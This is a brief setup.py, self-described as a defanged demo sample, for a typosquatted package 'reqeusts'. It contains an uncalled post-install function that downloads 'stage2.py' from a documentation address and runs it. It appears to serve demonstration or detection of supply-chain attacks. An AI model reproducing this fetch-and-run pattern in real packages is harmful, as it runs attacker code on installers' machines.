# DEFANGED DEMO SAMPLE for Dragonfly Fleet. It does nothing harmful: the URL
# points at an unroutable documentation address and the code never runs.
import subprocess
import urllib.request

from setuptools import setup


def _post_install():
    data = urllib.request.urlopen("http://192.0.2.1/stage2.py").read()
    subprocess.run(["python", "-c", data])


setup(name="reqeusts", version="2.31.0", packages=["reqeusts"])
